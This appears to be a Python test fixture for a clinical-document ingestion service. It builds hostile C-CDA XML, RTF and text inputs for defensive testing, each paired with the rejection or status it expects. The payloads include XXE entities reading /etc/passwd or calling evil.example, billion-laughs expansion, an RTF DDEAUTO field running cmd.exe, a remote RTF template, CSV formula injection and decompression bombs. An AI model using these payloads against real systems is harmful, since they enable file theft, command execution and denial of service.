"""Words: C-CDA, RTF and text that would fetch, swell, nest or act."""

import base64

from tests import files
from tests.hostile import READY, hostile

MIB = 1024**2
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
OPEN = '<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xi="http://www.w3.org/2001/XInclude">'
SHUT = "</ClinicalDocument>"


def cda(text: str = "<paragraph>Plan: rest</paragraph>", *, head: str = HEAD, extra: str = "") -> bytes:
    """A C-CDA of one section with this narrative."""
    return (
        f"{head}{OPEN}<title>Visit note</title>{extra}<component><structuredBody><component><section>"
        f"<title>Plan</title><text>{text}</text></section></component></structuredBody></component>{SHUT}"
    ).encode()


def unstructured(media_type: str, content: bytes) -> bytes:
    body = base64.b64encode(content).decode()
    return (
        f'{HEAD}{OPEN}<component><nonXMLBody><text mediaType="{media_type}" representation="B64">{body}</text>'
        f"</nonXMLBody></component>{SHUT}"
    ).encode()


def laughs() -> str:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'{HEAD}<!DOCTYPE ClinicalDocument [<!ENTITY l0 "ha">{lines}]>'


def rtf(inner: str, *, shut: str = "}") -> bytes:
    return ("{\\rtf1\\ansi " + inner + shut).encode("latin-1")


FILES = {
    "billion laughs": hostile(lambda: cda("&l9;", head=laughs()), "a.xml", "unsafe_document"),
    "quadratic swelling": hostile(
        lambda: cda("&a;" * 20_000, head=f'{HEAD}<!DOCTYPE ClinicalDocument [<!ENTITY a "{"a" * 50_000}">]>'),
        "a.xml", "unsafe_document", "unknown_type", "name_differs",
    ),
    "entity from a file": hostile(
        lambda: cda("&x;", head=f'{HEAD}<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "a.xml", "unsafe_document",
    ),
    "entity from the network": hostile(
        lambda: cda("&x;", head=f'{HEAD}<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "http://evil.example/">]>'),
        "a.xml", "unsafe_document",
    ),
    "parameter entity": hostile(
        lambda: cda(head=f'{HEAD}<!DOCTYPE ClinicalDocument [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>'),
        "a.xml", "unsafe_document",
    ),
    "document type alone": hostile(
        lambda: cda(head=f'{HEAD}<!DOCTYPE ClinicalDocument SYSTEM "cda.dtd">'), "a.xml", "unsafe_document"
    ),
    "inclusion": hostile(lambda: cda('<xi:include href="file:///etc/passwd" parse="text"/>'), "a.xml", READY),
    "style sheet from the network": hostile(
        lambda: cda(head=f'{HEAD}<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>'), "a.xml", READY
    ),
    "script in the narrative": hostile(lambda: cda("<script>alert(1)</script>"), "a.xml", READY),
    "100,000 elements deep": hostile(
        lambda: cda("<content>" * 100_000 + "</content>" * 100_000), "a.xml", "unsafe_document"
    ),
    "500,000 elements": hostile(lambda: cda("<br/>" * 500_000), "a.xml", "unsafe_document"),
    "attribute of 20 MiB": hostile(lambda: cda(f'<paragraph ID="{"x" * 20 * MIB}">a</paragraph>'), "a.xml", READY),
    "word of 5 MiB": hostile(lambda: cda("x" * 5 * MIB), "a.xml", READY, "too_many_pages"),
    "table of 2,000 columns": hostile(
        lambda: cda("<table><tr>" + "<td>a</td>" * 2000 + "</tr></table>"), "a.xml", READY, "truncated"
    ),
    "30 MiB": hostile(lambda: cda("x" * 30 * MIB), "a.xml", "unpacks_too_large"),
    "UTF-7": hostile(lambda: cda(head='<?xml version="1.0" encoding="UTF-7"?>'), "a.xml", "truncated"),
    "unknown encoding": hostile(lambda: cda(head='<?xml version="1.0" encoding="EVIL-1"?>'), "a.xml", "truncated"),
    "UTF-16": hostile(
        lambda: cda(head='<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16"), "a.xml", READY
    ),
    "root of another kind": hostile(lambda: b"<?xml version='1.0'?><Bundle/>", "a.xml", "name_differs"),
    "root named in a comment": hostile(
        lambda: b"<?xml version='1.0'?><!-- <ClinicalDocument > --><html/>", "a.xml", "unknown_type"
    ),
    "nothing but the root": hostile(f"{OPEN}{SHUT}".encode, "a.xml", READY),
    "body that is a PDF": hostile(lambda: unstructured("application/pdf", files.text_pdf("x")), "a.xml", READY),
    "body that is a bomb": hostile(lambda: unstructured("application/pdf", files.flate_bomb()), "a.xml", "too_costly"),
    "body that is a PDF of 90,000 points": hostile(
        lambda: unstructured("application/pdf", files.huge_page()), "a.xml", "too_large"
    ),
    "body in no base64": hostile(
        lambda: unstructured("application/pdf", b"x").replace(b"eA==", b"%%%%"), "a.xml", "truncated"
    ),
    "body of 900 megapixels": hostile(lambda: unstructured("image/png", files.pixel_bomb("PNG")), "a.xml", READY),
    "body that is a program": hostile(lambda: unstructured("application/x-msdownload", b"MZ"), "a.xml", READY),
    "RTF": hostile(lambda: rtf("Plan: rest"), "a.rtf", READY),
    "RTF groups 100,000 deep": hostile(
        lambda: rtf("{" * 100_000 + "}" * 100_000), "a.rtf", "unsafe_document"
    ),
    "RTF that never ends": hostile(lambda: rtf("Plan", shut=""), "a.rtf", "truncated"),
    "RTF with an object": hostile(
        lambda: rtf("{\\object\\objemb{\\*\\objdata 0105000002000000}} Plan"), "a.rtf", READY
    ),
    "RTF with a template elsewhere": hostile(
        lambda: rtf("{\\*\\template http://evil.example/t.dot} Plan"), "a.rtf", READY
    ),
    "RTF with a field that runs": hostile(
        lambda: rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe "/k calc"}{\\fldrslt x}} Plan'), "a.rtf", READY
    ),
    "RTF with a picture": hostile(lambda: rtf("{\\pict\\pngblip 89504e47} Plan"), "a.rtf", READY),
    "RTF with 2 GB announced": hostile(lambda: rtf("\\bin2147483647 x Plan"), "a.rtf", READY, "truncated"),
    "RTF of 200,000 odd signs": hostile(lambda: rtf("\\u-10179?\\u65533?" * 100_000), "a.rtf", READY, "too_costly"),
    "RTF of 20 MiB": hostile(lambda: rtf("word " * (4 * MIB)), "a.rtf", "too_many_pages", "too_costly"),
    "RTF called Word": hostile(lambda: rtf("Plan: ruhen"), "a.doc", READY),
    "text in one line of 5 MiB": hostile(lambda: b"a" * 5 * MIB, "a.txt", READY, "too_many_pages"),
    "text of 300,000 lines": hostile(lambda: b"line\n" * 300_000, "a.txt", "too_many_pages"),
    "text of 5,000 page breaks": hostile(lambda: b"a\f" * 5000, "a.txt", "too_many_pages"),
    "text with orders to a terminal": hostile(lambda: b"\x1b[2J\x1b]0;evil Plan: rest", "a.txt", READY),
    "text with zeros": hostile(lambda: b"Plan\x00rest", "a.txt", "name_differs"),
    "text read from right to left": hostile("Plan \u202etser \u05d0\u05d1".encode, "a.txt", READY),
    "text in no letters of ours": hostile("患者は元気です 😀".encode, "a.txt", READY),
    "text cut within a letter": hostile(lambda: "Müller".encode()[:2], "a.txt", READY),
    "text in UTF-32": hostile(lambda: "Plan".encode("utf-32"), "a.txt", READY),
    "spaces alone": hostile(lambda: b" " * 5000, "a.txt", "name_differs"),
    "web page called PDF": hostile(files.html, "a.pdf", "name_differs"),
    "web page called text": hostile(files.html, "a.txt", "name_differs"),
    "error message called TIFF": hostile(lambda: b"504 Gateway Time-out", "a.tif", "name_differs"),
    "CSV that calculates": hostile(lambda: b'=cmd|"/c calc"!A1,2\n', "=cmd().csv", READY),
}  # fmt: skip
